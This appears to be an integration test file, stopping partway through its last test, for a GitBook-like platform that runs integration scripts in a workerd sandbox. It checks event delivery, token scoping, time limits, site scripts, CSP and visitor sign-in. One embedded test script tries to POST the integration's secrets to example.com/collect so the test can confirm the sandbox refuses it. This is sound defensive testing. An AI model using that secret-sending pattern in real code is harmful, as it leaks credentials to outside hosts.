// Integration scripts run in workerd (the optional `workerd` package), as GitBook runs
// them: GitBook's events reach the script of every integration installed where they
// happen, with GitBook's environment and a token that reads what it is installed on;
// the script's outbound requests reach only the hosts allowed; a script that never
// answers is stopped at its time limit; an integration uninstalled receives nothing more.
import { execFileSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventsDelivered, request, startTestApp, stopTestApp, testAppConfig, type TestApp } from '../helpers/app.ts';
import { buildMember, buildOrganization, type Organization } from '../helpers/factories.ts';
import { jobHandlers } from '../../src/jobs/handlers.ts';
import { runDueJobs } from '../../src/jobs/queue.ts';
import { buildApp } from '../../src/app.ts';
import { findWorkerd } from '../../src/sandbox/sandbox.ts';
import { freePort } from '../helpers/process.ts';
import { startGitServer } from '../helpers/gitServer.ts';
import { publishSampleSite } from '../helpers/publishedSite.ts';
import { expectGitBookAnswer } from '../helpers/gitbookContract.ts';
import { JSDOM, VirtualConsole } from 'jsdom';

/** Why the runtime cannot run on this machine, if it cannot: those tests then skip, saying so. */
function runtimeMissing(): string | undefined {
  const found = findWorkerd();
  if ('missing' in found) return found.missing;
  try {
    execFileSync(found.binary, ['--version'], { stdio: 'pipe' });
    return undefined;
  } catch (error) {
    return `workerd does not run here: ${(error as Error).message}`;
  }
}
const missing = runtimeMissing();
if (missing) console.warn(`skipping the integration runtime tests: ${missing}`);

let receiver: Server;
let receiverHost: string;
const received: Array<{ path: string; body: string }> = [];
let testApp: TestApp;
let org: Organization;

beforeAll(async () => {
  receiver = createServer((incoming, response) => {
    let body = '';
    incoming.on('data', (chunk) => (body += chunk));
    incoming.on('end', () => {
      received.push({ path: incoming.url!, body });
      response.end('noted');
    });
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  receiverHost = `127.0.0.1:${(receiver.address() as AddressInfo).port}`;
  // The scripts call Quire back at its public URL: the one it listens on.
  const port = await freePort();
  testApp = await startTestApp({ QUIRE_PUBLIC_URL: `http://127.0.0.1:${port}`, QUIRE_ALLOW_PRIVATE_URLS: 'true', QUIRE_INTEGRATION_HOSTS: receiverHost, QUIRE_INTEGRATION_TIMEOUT: '2' });
  await testApp.app.listen({ port, host: '127.0.0.1' });
  org = await buildOrganization(testApp, 'Runtime');
});

afterAll(async () => {
  await stopTestApp(testApp);
  await new Promise((resolve) => receiver.close(resolve));
});

/** A script as GitBook's runtime would be built: a module whose fetch handler reads the multipart event. */
const reporter = (host: string) => `export default {
  async fetch(request, env, ctx) {
    const form = await request.formData();
    const event = JSON.parse(form.get('event'));
    const environment = JSON.parse(form.get('environment'));
    if (event.type === 'fetch') {
      const body = form.get('fetch-body');
      return new Response(JSON.stringify({ method: event.request.method, url: event.request.url, signature: event.request.headers['x-hub-signature'], body }), { status: 202, headers: { 'content-type': 'application/json' } });
    }
    if (event.type === 'space_installation_setup') {
      // GitBook's runtime queues tasks with the integration token, as context.integration.queueTask does.
      const queued = await fetch(environment.apiEndpoint + '/v1/integrations/' + environment.integration.name + '/tasks', {
        method: 'POST',
        headers: { authorization: 'Bearer ' + environment.apiTokens.integration, 'content-type': 'application/json' },
        body: JSON.stringify({ task: { greet: event.spaceId } }),
      });
      if (queued.status !== 204) throw new Error('queueing the task failed: ' + queued.status);
    }
    if (event.type !== 'space_content_updated') {
      await fetch('http://${host}/received', { method: 'POST', body: JSON.stringify({ path: new URL(request.url).pathname, event, environment }) });
      return new Response('OK');
    }
    const refused = await fetch('https://example.com/collect', { method: 'POST', body: JSON.stringify(environment.secrets) });
    const auth = { authorization: 'Bearer ' + environment.apiTokens.installation };
    const space = await fetch(environment.apiEndpoint + '/v1/spaces/' + event.spaceId, { headers: auth });
    const members = await fetch(environment.apiEndpoint + '/v1/orgs/' + environment.installation.target.organization + '/members', { headers: auth });
    const callback = { space: space.status, title: (await space.json()).title, members: members.status };
    ctx.waitUntil(fetch('http://${host}/later', { method: 'POST', body: event.eventId }));
    await fetch('http://${host}/received', { method: 'POST', body: JSON.stringify({ path: new URL(request.url).pathname, event, environment, refused: refused.status, callback }) });
    return new Response('OK');
  },
};
`;
const endless = 'export default { async fetch() { for (;;) {} } };\n';

const call = (method: 'GET' | 'POST' | 'PATCH' | 'DELETE', url: string, body?: unknown) => request(testApp.app, method, url, { token: org.admin.token, body });

async function publish(script: string) {
  const published = await call('POST', '/v1/integrations/notifier', { title: 'Notifier', description: 'Tells a chat room', scopes: ['space:content:read'], organization: org.organizationId, visibility: 'private', secrets: { WEBHOOK_KEY: 'k-123' }, script });
  expect(published.status, JSON.stringify(published.body)).toBeLessThan(300);
  return published.body;
}

async function mergeNewPage(spaceId: string, title: string) {
  const changeRequest = (await call('POST', `/v1/spaces/${spaceId}/change-requests`, {})).body;
  await call('POST', `/v1/spaces/${spaceId}/change-requests/${changeRequest.id}/content`, { changes: [{ operation: 'insert_page', document: `# ${title}` }] });
  expect((await call('POST', `/v1/spaces/${spaceId}/change-requests/${changeRequest.id}/merge`)).body.result).toBe('merge');
  return (await call('GET', `/v1/spaces/${spaceId}`)).body.revision as string;
}

async function waitFor<T>(what: string, probe: () => Promise<T | undefined> | T | undefined): Promise<T> {
  for (let attempt = 0; attempt < 400; attempt++) {
    const found = await probe();
    if (found !== undefined) return found;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error(`timed out waiting for ${what}`);
}

/** What the script reported of the events of a type, in the order it received them. */
const reportsOf = (type: string) => received.filter((entry) => entry.path === '/received').map((entry) => JSON.parse(entry.body)).filter((report) => report.event.type === type);
const reportOf = (type: string) => waitFor(`the script to report ${type}`, () => reportsOf(type)[0]);

const deliveryFor = (installationId: string) =>
  testApp.database.db.selectFrom('event_deliveries').selectAll().where('subscriber', '=', `integration:${installationId}`).orderBy('updated_at', 'desc').executeTakeFirst();

describe.skipIf(missing !== undefined)('integration scripts in workerd', () => {
  let spaceId: string;
  let installationId: string;
  let installationToken: string;

  it("delivers GitBook's events with their environment to the script of an integration installed on the space, which calls Quire back with its token, queues a task and answers webhooks at its public endpoint; a host not allowed is refused", async () => {
    await publish(reporter(receiverHost));
    spaceId = (await call('POST', `/v1/orgs/${org.organizationId}/spaces`, { title: 'Handbook' })).body.id;
    installationId = (await call('POST', '/v1/integrations/notifier/installations', { organization: org.organizationId })).body.id;
    expect((await call('POST', `/v1/integrations/notifier/installations/${installationId}/spaces`, { space: spaceId })).status).toBeLessThan(300);

    // Installing tells the script, on the organization and on the space.
    expect((await reportOf('installation_setup')).event).toEqual({ eventId: expect.any(String), type: 'installation_setup', installationId, status: 'active' });
    expect((await reportOf('space_installation_setup')).event).toEqual({ eventId: expect.any(String), type: 'space_installation_setup', installationId, spaceId, status: 'active' });

    const revision = await mergeNewPage(spaceId, 'Launch notes');
    const { path, event, environment, refused, callback } = await reportOf('space_content_updated');
    expect(path).toBe('/v1');
    expect(event).toMatchObject({ type: 'space_content_updated', spaceId, revisionId: revision, installationId, eventId: expect.any(String), updatedBy: [{ object: 'user', id: org.admin.userId }] });
    expect(environment).toMatchObject({
      apiEndpoint: testApp.app.ctx.config.publicUrl,
      apiTokens: { installation: expect.stringMatching(/^quire_/), integration: expect.stringMatching(/^quire_/) },
      integration: { object: 'integration', name: 'notifier', version: 1, owner: { id: org.organizationId } },
      installation: { id: installationId, target: { organization: org.organizationId } },
      spaceInstallation: { integration: 'notifier', installation: installationId, space: spaceId },
      secrets: { WEBHOOK_KEY: 'k-123' },
      signingSecrets: { integration: expect.stringMatching(/^[0-9a-f]{64}$/), installation: expect.stringMatching(/^[0-9a-f]{64}$/) },
    });
    expect(refused).toBe(403);
    // Its token reads the space it is installed on, and nothing of the organization besides.
    expect(callback).toEqual({ space: 200, title: 'Handbook', members: 404 });
    installationToken = environment.apiTokens.installation;
    // What the script left to waitUntil ran too.
    await waitFor('the waitUntil request', () => received.find((entry) => entry.path === '/later' && entry.body === event.eventId));
    // The task the script queued came back to it.
    expect((await reportOf('task')).event).toEqual({ eventId: expect.any(String), type: 'task', installationId, task: { greet: spaceId } });
    await eventsDelivered(testApp);
    expect(await deliveryFor(installationId)).toMatchObject({ state: 'done', attempts: 1, last_error: null });

    // The organization's administrators read the deliveries; its other members may not.
    const events = await call('GET', '/v1/integrations/notifier/events', undefined);
    expect(events.status).toBe(200);
    expect(events.body.items.map((item: { payload: { type: string } }) => item.payload.type).sort()).toEqual(['installation_setup', 'space_content_updated', 'space_installation_setup', 'task']);
    expect(events.body.items.find((item: { payload: { type: string } }) => item.payload.type === 'space_content_updated')).toMatchObject({ integrationId: 'notifier', installationId, status: 'success', attempts: 1, payload: { revisionId: revision } });
    const editor = await buildMember(testApp, org.organizationId, 'edit');
    expect((await request(testApp.app, 'GET', '/v1/integrations/notifier/events', { token: editor.token })).status).toBe(403);
    // Its public endpoint takes other services' webhooks, without a token, into the script.
    const publicEndpoint = (await call('GET', `/v1/integrations/notifier/installations/${installationId}`)).body.urls.publicEndpoint;
    expect(publicEndpoint).toBe(`${testApp.app.ctx.config.publicUrl}/v1/integrations/notifier/installations/${installationId}/fetch`);
    const hook = await testApp.app.inject({ method: 'POST', url: `/v1/integrations/notifier/installations/${installationId}/fetch/hooks/github?delivery=7`, headers: { 'content-type': 'application/json', 'x-hub-signature': 'sha256=abc' }, payload: '{"zen":"Keep it logically awesome."}' });
    expect(hook.statusCode).toBe(202);
    expect(hook.json()).toEqual({ method: 'POST', url: `${publicEndpoint}/hooks/github?delivery=7`, signature: 'sha256=abc', body: '{"zen":"Keep it logically awesome."}' });
    expect((await testApp.app.inject({ method: 'POST', url: `/v1/integrations/notifier/installations/nope/fetch/x`, payload: '' })).statusCode).toBe(404);
    // The integration's own endpoint too, outside any installation.
    const integrationEndpoint = (await call('GET', '/v1/integrations/notifier')).body.urls.publicEndpoint;
    expect(integrationEndpoint).toBe(`${testApp.app.ctx.config.publicUrl}/v1/integrations/notifier/fetch`);
    const own = await testApp.app.inject({ method: 'GET', url: '/v1/integrations/notifier/fetch' });
    expect(own.statusCode).toBe(202);
    expect(own.json()).toMatchObject({ method: 'GET', url: integrationEndpoint });
    // Nobody but the installation's script queues its tasks.
    expect((await call('POST', '/v1/integrations/notifier/tasks', { task: {} })).body.error.message).toMatch(/^No installation of the integration "notifier" acts with this token/);
  }, 30_000);

  it('stops a script that never answers at its time limit, records why, and runs the next version once published', async () => {
    await publish(endless);
    received.length = 0;
    await mergeNewPage(spaceId, 'Stuck');
    const failed = await waitFor('the delivery to fail', async () => {
      const delivery = await deliveryFor(installationId);
      return delivery?.last_error ? delivery : undefined;
    });
    expect(failed).toMatchObject({ state: 'pending', attempts: 1 });
    expect(failed.last_error).toBe('the script did not answer within its 2000 ms (QUIRE_INTEGRATION_TIMEOUT); the runtime was restarted to stop it');

    // The retry, after its backoff, runs the version published since, in a restarted runtime.
    await publish(reporter(receiverHost));
    testApp.clock.advance(5_000);
    await runDueJobs(testApp.app.ctx, jobHandlers);
    expect(await deliveryFor(installationId)).toMatchObject({ state: 'done', attempts: 2 });
    expect((await reportOf('space_content_updated')).environment.integration.version).toBe(3);
  }, 30_000);

  it('tells the script when a Git Sync operation starts and how it ends', async () => {
    const git = await startGitServer();
    try {
      const head = git.commit({ 'README.md': '# Welcome\n\nFrom git.\n' });
      received.length = 0;
      expect((await call('POST', `/v1/spaces/${spaceId}/git/import`, { url: git.url, ref: 'refs/heads/main' })).status).toBe(204);
      const started = await reportOf('space_gitsync_started');
      const completed = await reportOf('space_gitsync_completed');
      expect(started.event).toMatchObject({ spaceId, installationId, revisionId: expect.any(String), commitId: expect.any(String) });
      expect(completed.event).toMatchObject({ spaceId, installationId, state: 'success', commitId: head, revisionId: (await call('GET', `/v1/spaces/${spaceId}`)).body.revision });
    } finally {
      await git.close();
    }
  }, 30_000);

  it("tells the script of visibility changes and of its uninstallation, with what it was; sends nothing more once uninstalled from the space, whose token then reads it no more, and is revoked with the installation", async () => {
    received.length = 0;
    expect((await call('PATCH', `/v1/spaces/${spaceId}`, { visibility: 'public' })).status).toBe(200);
    expect((await reportOf('space_visibility_updated')).event).toMatchObject({ spaceId, installationId, visibility: 'public', previousVisibility: 'private' });
    expect((await call('PATCH', `/v1/spaces/${spaceId}`, { visibility: 'private' })).status).toBe(200);
    await waitFor('the second visibility event', () => reportsOf('space_visibility_updated')[1]);
    expect((await call('DELETE', `/v1/integrations/notifier/installations/${installationId}/spaces/${spaceId}`)).status).toBe(204);
    const removed = await reportOf('space_installation_deleted');
    expect(removed.event).toMatchObject({ spaceId, installationId, previous: { configuration: {} } });
    expect(removed.environment).toMatchObject({ apiTokens: {}, spaceInstallation: { installation: installationId, space: spaceId }, installation: { id: installationId } });
    received.length = 0;
    await mergeNewPage(spaceId, 'After');
    await eventsDelivered(testApp);
    const lastEvent = await testApp.database.db.selectFrom('events').select('id').where('space_id', '=', spaceId).orderBy('created_at', 'desc').executeTakeFirstOrThrow();
    const deliveries = await testApp.database.db.selectFrom('event_deliveries').select('subscriber').where('event_id', '=', lastEvent.id).execute();
    expect(deliveries.map((row) => row.subscriber)).not.toContain(`integration:${installationId}`);
    expect(received).toEqual([]);
    // Its token no longer reads the space, and once the integration is uninstalled it is refused altogether.
    expect((await request(testApp.app, 'GET', `/v1/spaces/${spaceId}`, { token: installationToken })).status).toBe(404);
    expect((await request(testApp.app, 'GET', '/v1/user', { token: installationToken })).status).toBe(200);
    // Installed on all spaces, its token reaches every space, including one made since.
    expect((await call('PATCH', `/v1/integrations/notifier/installations/${installationId}`, { space_selection: 'all' })).status).toBe(200);
    expect((await request(testApp.app, 'GET', `/v1/spaces/${spaceId}`, { token: installationToken })).status).toBe(200);
    const later = (await call('POST', `/v1/orgs/${org.organizationId}/spaces`, { title: 'Made later' })).body.id;
    received.length = 0;
    await mergeNewPage(later, 'First words');
    expect((await reportOf('space_content_updated')).callback).toEqual({ space: 200, title: 'Made later', members: 404 });
    expect((await call('PATCH', `/v1/integrations/notifier/installations/${installationId}`, { space_selection: 'selected' })).status).toBe(200);
    expect((await request(testApp.app, 'GET', `/v1/spaces/${later}`, { token: installationToken })).status).toBe(404);

    // On a site, as on a space.
    const siteId = (await call('POST', `/v1/orgs/${org.organizationId}/sites`, { title: 'Docs' })).body.id;
    expect((await call('POST', `/v1/integrations/notifier/installations/${installationId}/sites`, { siteId })).status).toBe(201);
    const onSite = await reportOf('site_installation_setup');
    expect(onSite.event).toEqual({ eventId: expect.any(String), type: 'site_installation_setup', installationId, siteId, status: 'active' });
    expect(onSite.environment.siteInstallation).toMatchObject({ installation: installationId, site: siteId });
    expect((await call('DELETE', `/v1/integrations/notifier/installations/${installationId}/sites/${siteId}`)).status).toBe(204);
    expect((await reportOf('site_installation_deleted')).event).toMatchObject({ siteId, installationId, previous: { configuration: {} } });
    expect((await call('DELETE', `/v1/integrations/notifier/installations/${installationId}`)).status).toBe(204);
    expect((await request(testApp.app, 'GET', '/v1/user', { token: installationToken })).status).toBe(401);
    expect((await reportOf('installation_deleted')).event).toMatchObject({ installationId, previous: { configuration: {} } });
  }, 30_000);

  it("shows each organization only its own installations' deliveries, and the publisher others' without their members' e-mail addresses", async () => {
    const publisher = await buildOrganization(testApp, 'Publisher');
    const as = (token: string) => (method: 'GET' | 'POST', url: string, body?: unknown) => request(testApp.app, method, url, { token, body });
    const byPublisher = as(publisher.admin.token);
    const published = await byPublisher('POST', '/v1/integrations/shared-notifier', { title: 'Shared notifier', description: 'Public', scopes: ['space:content:read'], organization: publisher.organizationId, visibility: 'public', script: reporter(receiverHost) });
    expect(published.status, JSON.stringify(published.body)).toBeLessThan(300);
    const installIn = async (organization: Organization) => {
      const call = as(organization.admin.token);
      const space = (await call('POST', `/v1/orgs/${organization.organizationId}/spaces`, { title: 'Shared' })).body.id;
      const installation = (await call('POST', '/v1/integrations/shared-notifier/installations', { organization: organization.organizationId })).body.id;
      expect((await call('POST', `/v1/integrations/shared-notifier/installations/${installation}/spaces`, { space })).status).toBe(201);
      const changeRequest = (await call('POST', `/v1/spaces/${space}/change-requests`, {})).body;
      await call('POST', `/v1/spaces/${space}/change-requests/${changeRequest.id}/content`, { changes: [{ operation: 'insert_page', document: '# Shared' }] });
      expect((await call('POST', `/v1/spaces/${space}/change-requests/${changeRequest.id}/merge`)).body.result).toBe('merge');
      return installation;
    };
    const theirs = await installIn(org);
    const publishers = await installIn(publisher);
    await eventsDelivered(testApp);
    const contentUpdates = async (token: string) =>
      (await request(testApp.app, 'GET', '/v1/integrations/shared-notifier/events', { token })).body.items.filter((item: { payload: { type: string } }) => item.payload.type === 'space_content_updated');

    const seenByInstaller = await contentUpdates(org.admin.token);
    expect(seenByInstaller.map((item: { installationId: string }) => item.installationId)).toEqual([theirs]);
    expect(seenByInstaller[0].payload.updatedBy).toEqual([expect.objectContaining({ id: org.admin.userId, email: org.admin.email })]);

    const seenByPublisher = await contentUpdates(publisher.admin.token);
    expect(seenByPublisher.map((item: { installationId: string }) => item.installationId).sort()).toEqual([theirs, publishers].sort());
    const other = seenByPublisher.find((item: { installationId: string }) => item.installationId === theirs);
    expect(other.payload.updatedBy).toEqual([expect.objectContaining({ id: org.admin.userId })]);
    expect(JSON.stringify(other.payload)).not.toContain(org.admin.email);
    const own = seenByPublisher.find((item: { installationId: string }) => item.installationId === publishers);
    expect(own.payload.updatedBy[0].email).toBe(publisher.admin.email);

    // An organization that neither publishes nor installed it reads none.
    const stranger = await buildOrganization(testApp, 'Stranger');
    expect((await request(testApp.app, 'GET', '/v1/integrations/shared-notifier/events', { token: stranger.admin.token })).status).toBe(403);
  }, 30_000);

  it("serves the script of an integration installed on a published site, as GitBook's renderer and Quire's pages load it: run as fetch_published_script with the site installation's settings, listed with its cookies and the sources it needs; an unpublished or other site, or an integration without the scope, has none", async () => {
    // As GitBook's analytics integrations do: a script made from the site installation's tracking id, served whatever its type.
    const analytics = `export default {
      async fetch(request) {
        const form = await request.formData();
        const event = JSON.parse(form.get('event'));
        if (event.type !== 'fetch_published_script') return new Response('OK');
        const id = JSON.parse(form.get('environment')).siteInstallation?.configuration?.tracking_id;
        if (id === 'broken') return new Response('no tracking id', { status: 500 });
        return new Response('window.tracked = ' + JSON.stringify({ id, siteId: event.siteId, installationId: event.installationId }) + ';', { headers: { 'content-type': 'text/html' } });
      },
    };`;
    const { org: owner, call: as, sites, site, path, open } = await publishSampleSite(testApp);
    const manifest = { title: 'Analytics', description: 'Counts readers', organization: owner.organizationId, visibility: 'private', script: analytics };
    const policy = { 'script-src': 'https://stats.example.com', 'connect-src': 'https://stats.example.com;\n', 'frame-ancestors': '*' };
    expect((await as('POST', '/v1/integrations/analytics', { ...manifest, scopes: ['site:script:inject', 'site:script:cookies'], contentSecurityPolicy: policy })).status).toBeLessThan(300);
    const installation = (await as('POST', '/v1/integrations/analytics/installations', { organization: owner.organizationId })).body.id;
    expect((await as('POST', `/v1/integrations/analytics/installations/${installation}/sites`, { siteId: site.id })).status).toBe(201);
    const siteInstallation = `/v1/integrations/analytics/installations/${installation}/sites/${site.id}`;
    expect((await as('PATCH', siteInstallation, { configuration: { tracking_id: 'G-123' } })).status).toBe(200);

    const scriptUrl = `${testApp.app.ctx.config.publicUrl}${siteInstallation}/script.js?v=1`;
    const publishedSite = (await as('GET', `${sites}/${site.id}/published`)).body;
    expectGitBookAnswer('getPublishedContentSite', publishedSite);
    expect(publishedSite.scripts).toEqual([
      { script: scriptUrl, cookies: true, contentSecurityPolicy: 'script-src https://stats.example.com; connect-src https://stats.example.com ; frame-ancestors *' },
    ]);
    const script = await fetch(scriptUrl);
    expect(script.status).toBe(200);
    expect(script.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(script.headers.get('x-content-type-options')).toBe('nosniff');
    expect(await script.text()).toBe(`window.tracked = ${JSON.stringify({ id: 'G-123', siteId: site.id, installationId: installation })};`);

    // Quire's own pages load it, let it and what it declares load (and nothing else widened), and ask about cookies.
    const page = await open(`${path}/start-here`);
    expect([...page.document.querySelectorAll('script[async]')].map((element) => element.getAttribute('src'))).toEqual([scriptUrl]);
    const csp = page.response.headers['content-security-policy'] as string;
    expect(csp).toContain(`script-src 'self' ${testApp.app.ctx.config.publicUrl} https://stats.example.com;`);
    expect(csp).toContain("connect-src 'self' https://stats.example.com");
    expect(csp).toContain("frame-ancestors 'self'");
    expect(csp).not.toContain('frame-ancestors *');
    const readerScript = (await testApp.app.inject({ method: 'GET', url: '/reader/reader.js' })).body;
    const dom = new JSDOM(page.response.body, { runScripts: 'outside-only', url: `${testApp.app.ctx.config.publicUrl}${path}/start-here`, virtualConsole: new VirtualConsole() });
    dom.window.eval(readerScript);
    const notice = dom.window.document.querySelector('aside.cookie-notice') as HTMLElement;
    expect(notice.hidden).toBe(false);
    (notice.querySelector('button[data-cookies="yes"]') as HTMLButtonElement).click();
    expect(dom.window.document.cookie).toBe('__gitbook_cookie_granted=yes');
    dom.window.close();

    // At the site's own hostname its pages load the script from there, as they load the reader's: never mixed content.
    expect((await as('PATCH', `${sites}/${site.id}`, { hostname: 'docs.analytics.example' })).status).toBe(200);
    const atHost = await open('/start-here', { host: 'docs.analytics.example' });
    const hostScript = `http://docs.analytics.example${siteInstallation}/script.js?v=1`;
    expect([...atHost.document.querySelectorAll('script[async]')].map((element) => element.getAttribute('src'))).toEqual([hostScript]);
    expect(atHost.response.headers['content-security-policy']).toContain("script-src 'self' http://docs.analytics.example https://stats.example.com;");
    const servedAtHost = await testApp.app.inject({ method: 'GET', url: `${siteInstallation}/script.js?v=1`, headers: { host: 'docs.analytics.example' } });
    expect(servedAtHost.headers['content-type']).toBe('text/javascript; charset=utf-8');
    expect(servedAtHost.body).toContain('"id":"G-123"');

    // New settings make a new script at once; a script that fails is the integration's failure, said so.
    expect((await as('PATCH', siteInstallation, { configuration: { tracking_id: 'G-456' } })).status).toBe(200);
    expect(await (await fetch(scriptUrl)).text()).toContain('"id":"G-456"');
    expect((await as('PATCH', siteInstallation, { configuration: { tracking_id: 'broken' } })).status).toBe(200);
    const failed = await fetch(scriptUrl);
    expect(failed.status).toBe(502);
    expect((await failed.json()).error.message).toBe('the script of analytics answered 500 to fetch_published_script: no tracking id');

    // Another site of the organization, which it is not installed on, has no script; nor has the site once unpublished.
    const other = (await as('POST', sites, { title: 'Other' })).body;
    expect((await as('POST', `${sites}/${other.id}/publish`)).status).toBe(200);
    expect((await as('GET', `${sites}/${other.id}/published`)).body.scripts).toEqual([]);
    const notInstalled = await fetch(scriptUrl.replace(site.id, other.id));
    expect(notInstalled.status).toBe(404);
    expect((await notInstalled.json()).error.message).toBe(`No script of the integration "analytics" is published on the site "${other.id}" by the installation "${installation}"`);
    expect((await as('POST', `${sites}/${site.id}/unpublish`)).status).toBe(200);
    expect((await fetch(scriptUrl)).status).toBe(404);
    expect((await as('POST', `${sites}/${site.id}/publish`)).status).toBe(200);
    expect((await as('PATCH', siteInstallation, { configuration: { tracking_id: 'G-123' } })).status).toBe(200);
    expect((await fetch(scriptUrl)).status).toBe(200);

    // A new publication that may no longer inject scripts has none on the site.
    expect((await as('POST', '/v1/integrations/analytics', { ...manifest, scopes: ['site:views:read'] })).status).toBeLessThan(300);
    expect((await as('GET', `${sites}/${site.id}/published`)).body.scripts).toEqual([]);
    expect((await fetch(scriptUrl)).status).toBe(404);
    expect((await open(`${path}/start-here`)).document.querySelector('aside.cookie-notice')).toBeNull();
  }, 30_000);

  it("signs a visitor-auth site's visitors in through its visitor authentication integration, as GitBook's Auth0 and Okta integrations do: a reader without a token starts at fetch_visitor_authentication, comes back through the site installation's endpoint with a token signed with its signing secret, and reads the page asked for", async () => {
    const { org: owner, call: as, sites, site, path, open } = await publishSampleSite(testApp, 'visitor-auth');
    const publicUrl = testApp.app.ctx.config.publicUrl;
    const published = `${publicUrl}${path}`;
    // The identity provider's sign-in is the installation's own endpoint here: it signs the visitor in at once, as a provider would after its form.
    const signIn = `
      const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/=+$/, '').replace(/\\+/g, '-').replace(/\\//g, '_');
      async function signed(claims, secret) {
        const text = (value) => base64url(new TextEncoder().encode(JSON.stringify(value)));
        const unsigned = text({ alg: 'HS256', typ: 'JWT' }) + '.' + text(claims);
        const key = await crypto.subtle.importKey('raw', new TextEncoder().encode(secret), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
        return unsigned + '.' + base64url(await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(unsigned)));
      }
      export default {
        async fetch(request) {
          const form = await request.formData();
          const event = JSON.parse(form.get('event'));
          const environment = JSON.parse(form.get('environment'));
          const endpoint = environment.siteInstallation?.urls.publicEndpoint;
          if (event.type === 'fetch_visitor_authentication') {
            return Response.redirect(endpoint + '/visitor-auth/response?state=' + encodeURIComponent(event.location), 302);
          }
          if (event.type === 'fetch' && new URL(event.request.url).pathname.endsWith('/visitor-auth/response')) {
            const token = await signed({ plan: 'pro', exp: Math.floor(Date.now() / 1000) + 3600 }, environment.signingSecrets.siteInstallation);
            return Response.redirect(${JSON.stringify(published)} + new URL(event.request.url).searchParams.get('state') + '?jwt_token=' + token, 302);
          }
          return new Response('OK');
        },
      };`;
    const manifest = { title: 'Sign-in', description: 'Signs visitors in', organization: owner.organizationId, visibility: 'private', script: signIn, scopes: ['site:visitor:auth'] };
    expect((await as('POST', '/v1/integrations/va-test', manifest)).status).toBeLessThan(300);
    const auth = `${sites}/${site.id}/publishing/auth`;
    const refused = await as('PATCH', auth, { backend: 'integration' });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toMatch(/install one on the site first/);

    const installation = (await as('POST', '/v1/integrations/va-test/installations', { organization: owner.organizationId })).body.id;
    expect((await as('POST', `/v1/integrations/va-test/installations/${installation}/sites`, { siteId: site.id })).status).toBe(201);
    const chosen = await as('PATCH', auth, { backend: 'integration' });
    expect(chosen.status).toBe(200);
    expect(chosen.body).toMatchObject({ object: 'publishing-auth', backend: 'integration', integration: 'va-test' });
    expect((await as('GET', auth)).body).toEqual(chosen.body);
    const endpoint = `${publicUrl}/v1/integrations/va-test/installations/${installation}/sites/${site.id}`;
    expect((await as('GET', `/v1/integrations/va-test/installations/${installation}/sites/${site.id}`)).body.urls.publicEndpoint).toBe(`${endpoint}/fetch`);

    // The reader: the site, the integration, the provider, and back with a token to the page asked for.
    const start = (await open(`${path}/reference`)).response;
    expect(start.statusCode).toBe(302);
    expect(start.headers.location).toBe(`${endpoint}/visitor-auth?location=%2Freference`);
    const atProvider = await fetch(start.headers.location as string, { redirect: 'manual' });
    expect(atProvider.status).toBe(302);
    expect(atProvider.headers.get('location')).toBe(`${endpoint}/fetch/visitor-auth/response?state=%2Freference`);
    const back = await fetch(atProvider.headers.get('location')!, { redirect: 'manual' });
    expect(back.status).toBe(302);
    const withToken = back.headers.get('location')!;
    expect(withToken).toMatch(new RegExp(`^${published}/reference\\?jwt_token=`));
    const page = await open(new URL(withToken).pathname + new URL(withToken).search);
    expect(page.response.statusCode).toBe(200);
    expect(page.document.querySelector('main')!.textContent).toContain('Pro plans get a dedicated region.');

    // GitBook's renderer is sent the same way; a new key refuses the tokens signed before it.
    const resolved = await request(testApp.app, 'POST', '/v1/urls/published', { body: { url: `${published}/reference`, redirectOnError: true } });
    expect(resolved.body).toEqual({ target: 'external', site: site.id, redirect: `${endpoint}/visitor-auth?location=%2Freference` });
    expect((await as('POST', `${auth}/regenerate`)).status).toBe(200);
    expect((await open(new URL(withToken).pathname + new URL(withToken).search)).response.statusCode).toBe(302);
    // Back to the organization's own service: no fallback set, so no sign-in to send readers to.
    expect((await as('PATCH', auth, { backend: 'custom' })).body.backend).toBe('custom');
    expect((await open(`${path}/reference`)).response.statusCode).toBe(404);
    expect((await fetch(start.headers.location as string, { redirect: 'manual' })).status).toBe(404);
  });

  it("loads the site's scripts on every page a reader reaches, as GitBook's pages do: its search results and its 404 page too, with their policy and the cookie notice, while a site without integrations loads only the reader's own script, another site of the organization only once the installation covers every site, and another organization's site never", async () => {
    const counter = `export default { async fetch() { return new Response('window.counted = true;'); } };`;
    const { org: owner, call: as, sites, site, space, path, open } = await publishSampleSite(testApp);
    const manifest = { title: 'Counter', description: 'Counts readers', organization: owner.organizationId, visibility: 'private', script: counter };
    expect((await as('POST', '/v1/integrations/counter', { ...manifest, scopes: ['site:script:inject', 'site:script:cookies'], contentSecurityPolicy: { 'connect-src': 'https://count.example.com' } })).status).toBeLessThan(300);
    const readerScript = `${testApp.app.ctx.config.publicUrl}/reader/reader.js`;
    const scriptsOf = (document: Document) => [...document.querySelectorAll('script')].map((element) => [element.getAttribute('src'), element.hasAttribute('async') ? 'async' : 'defer']);

    // Before the integration is installed: the reader's script alone, the policy as narrow as ever.
    const searchBefore = await open(`${path}?q=start`);
    expect(searchBefore.response.statusCode).toBe(200);
    expect(scriptsOf(searchBefore.document)).toEqual([[readerScript, 'defer']]);
    expect(searchBefore.response.headers['content-security-policy']).not.toContain('count.example.com');

    const installation = (await as('POST', '/v1/integrations/counter/installations', { organization: owner.organizationId })).body.id;
    expect((await as('POST', `/v1/integrations/counter/installations/${installation}/sites`, { siteId: site.id })).status).toBe(201);
    const scriptUrl = `${testApp.app.ctx.config.publicUrl}/v1/integrations/counter/installations/${installation}/sites/${site.id}/script.js?v=1`;
    for (const [reached, status] of [[`${path}?q=start`, 200], [`${path}/no-such-page`, 404], [`${path}/start-here`, 200]] as const) {
      const { response, document } = await open(reached);
      expect(response.statusCode, reached).toBe(status);
      expect(scriptsOf(document), reached).toEqual([[readerScript, 'defer'], [scriptUrl, 'async']]);
      expect(response.headers['content-security-policy'], reached).toContain("connect-src 'self' https://count.example.com");
      expect(document.querySelector('aside.cookie-notice'), reached).not.toBeNull();
    }
